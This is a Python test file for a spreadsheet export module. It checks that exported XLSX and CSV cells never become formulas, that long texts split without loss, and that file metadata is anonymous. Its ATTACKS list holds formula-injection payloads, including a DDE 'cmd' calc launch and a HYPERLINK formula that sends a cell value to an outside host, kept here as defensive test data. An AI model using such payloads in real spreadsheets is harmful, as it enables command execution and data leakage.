"""What leaves in a spreadsheet stays what it was: texts stay texts, whole, under a file that names nobody."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from decimal import Decimal

import pytest
from defusedxml import ElementTree
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import load_workbook

from pdp.core.export import CONTINUED, Cell, Sheet, to_csv, to_xlsx

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://ailleurs.example.org?"&A1;"cliquez")',
    "+33612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "·=1+1",
    "··=1",
    "_x003D_1+1",
    "{=1+1}",
    "http://ailleurs.example.org",
    "mailto:x@example.org",
    "internal:'Feuille'!A1",
    'a";"=1+1',
    "a\r\n=1+1",
    "'=1+1",
)
TEXTS = st.text(st.characters(exclude_categories=("Cs",)), max_size=60) | st.sampled_from(ATTACKS)
STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "·=", "·", "_x0041_"])


def sheet(texts: Sequence[Cell]) -> Sheet:
    return Sheet("Essai", ("Texte", "Repère"), [[text, "fin"] for text in texts])


def cells(content: bytes) -> list[str]:
    """Return the first column under the head, as another library reads it."""
    rows = load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    return [str(row[0]) for row in rows[1:]]


def count_formulas(content: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        names = [name for name in file.namelist() if name.startswith("xl/worksheets/")]
        roots = [ElementTree.fromstring(file.read(name)) for name in names]
        assert not any("relationships" in name.lower() and "sheet" in name for name in file.namelist())
    return sum(len(list(root.iter(f"{MAIN}f"))) + len(list(root.iter(f"{MAIN}hyperlink"))) for root in roots)


def csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]


def undot(text: str) -> str:
    """Take off the dot of a CSV cell, by the one rule that the guide gives."""
    return re.sub(r"^·(?=[\s·\ufeff]*[=+\-@＝＋－＠\u2212\ufe62\ufe63\ufe66\ufe6b]|·*[\t\n])", "", text)


def shown(text: str) -> str:
    """Say by hand what a reader gets for a text: line ends normalised, the rest of the controls in letters."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    hidden = r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]|[\U0001fffe-\U0010ffff]"
    return re.sub(hidden, lambda found: _letters(found[0]), text)


def _letters(character: str) -> str:
    code = ord(character)
    return f"[U+{code:04X}]" if code < 0x10000 or code % 0x10000 in (0xFFFE, 0xFFFF) else character


def test_no_text_becomes_a_formula_and_each_comes_back_whole(figure: Callable[[str, object], None]) -> None:
    seen = {"cells": 0, "formulas": 0}

    @settings(max_examples=400, deadline=None)
    @given(st.lists(st.builds(str.__add__, STARTS | st.just(""), TEXTS), min_size=1, max_size=25))
    def check(texts: list[str]) -> None:
        content = to_xlsx(sheet(texts))
        seen["cells"] += 2 * len(texts)
        seen["formulas"] += count_formulas(content)
        assert cells(content) == [shown(text) for text in texts]
        rows = csv_rows(to_csv(sheet(texts)))
        assert [undot(row[0]) for row in rows] == [shown(text) for text in texts]
        assert all(row[1] == "fin" for row in rows), "no cell spills into the next one"
        assert not any(re.match(r"\s*[=+\-@＝＋－＠\t\r\n]", row[0]) for row in rows)

    check()
    assert seen["formulas"] == 0
    figure("export.cells", f"{seen['cells']} cells of generated text in XLSX and CSV, {seen['formulas']} formulas")


@pytest.mark.parametrize("text", ATTACKS)
def test_each_known_attack_is_a_text_in_both_formats(text: str) -> None:
    content = to_xlsx(sheet([text]))
    assert count_formulas(content) == 0
    assert cells(content) == [shown(text)]
    [row] = csv_rows(to_csv(sheet([text])))
    assert undot(row[0]) == shown(text)


def test_a_text_that_looks_like_a_formula_is_quoted_for_the_day_someone_edits_it() -> None:
    with zipfile.ZipFile(io.BytesIO(to_xlsx(sheet(["=1+1", "calme"])))) as file:
        styles, page = file.read("xl/styles.xml").decode(), file.read("xl/worksheets/sheet1.xml").decode()
    looks = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    used = {name: int(re.search(rf'r="{name}" s="(\d+)"', page)[1]) for name in ("A2", "A3")}  # type: ignore[index]
    assert 'quotePrefix="1"' in looks[used["A2"]]
    assert "quotePrefix" not in looks[used["A3"]]


@pytest.mark.parametrize("size", [31_999, 32_000, 32_001, 32_767, 32_768, 100_000])
@pytest.mark.parametrize("letter", ["é", "😀"])
def test_a_long_text_goes_on_in_the_next_rows_and_loses_nothing(size: int, letter: str) -> None:
    text = "".join(f"{number}{letter}" for number in range(size))[:size]
    for found in (cells(to_xlsx(sheet([text]))), [row[0] for row in csv_rows(to_csv(sheet([text])))]):
        assert all(piece.startswith(CONTINUED) for piece in found[1:])
        assert "".join([found[0], *(piece.removeprefix(CONTINUED) for piece in found[1:])]) == text
        assert all(len(piece.encode("utf-16-le")) // 2 <= 32_767 for piece in found)


def test_numbers_and_dates_keep_their_type() -> None:
    row: list[Cell] = [12, Decimal("-3.50"), date(2026, 3, 3), None, "00123", "2026-0002"]
    table = Sheet("Essai", ("a", "b", "c", "d", "e", "f"), [row])
    found = load_workbook(io.BytesIO(to_xlsx(table))).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert found[1] == [12.0, -3.5, date(2026, 3, 3), "", "00123", "2026-0002"]
    assert csv_rows(to_csv(table)) == [["12", "-3,50", "03/03/2026", "", "00123", "2026-0002"]]


def test_a_number_as_long_as_an_identifier_is_refused() -> None:
    with pytest.raises(ValueError, match="identifier"):
        to_xlsx(sheet([2840375123456 * 1000]))


def test_the_file_names_nobody_and_the_same_table_gives_the_same_bytes() -> None:
    content = to_xlsx(sheet(["calme"]))
    assert content == to_xlsx(sheet(["calme"]))
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        core, app = file.read("docProps/core.xml").decode(), file.read("docProps/app.xml").decode()
        parts = set(file.namelist())
    assert re.findall(r"<dc:creator>(.*?)</dc:creator>|<cp:lastModifiedBy>(.*?)</cp:lastModifiedBy>", core) == [
        ("", ""),
        ("", ""),
    ]
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2020-01-01T00:00:00Z"}
    assert re.findall(r"<Company>(.*?)</Company>|<Manager>(.*?)</Manager>", app) in ([], [("", "")])
    assert not [name for name in parts if "rels" in name and "sheet" in name], "no link leaves the sheet"


def test_a_row_of_another_width_is_a_mistake_of_the_code() -> None:
    with pytest.raises(ValueError, match="columns"):
        Sheet("Essai", ("a", "b"), [["seul"]])
